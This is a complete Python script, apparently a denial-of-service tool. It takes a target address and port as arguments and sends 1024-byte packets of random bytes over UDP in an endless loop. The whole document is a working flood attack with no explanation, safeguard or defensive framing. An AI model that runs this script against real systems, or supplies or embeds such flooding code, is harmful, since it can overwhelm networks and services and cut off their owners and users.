import socket, random, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
target = (sys.argv[1], int(sys.argv[2]))
payload = random._urandom(1024)
while True:
    s.sendto(payload, target)
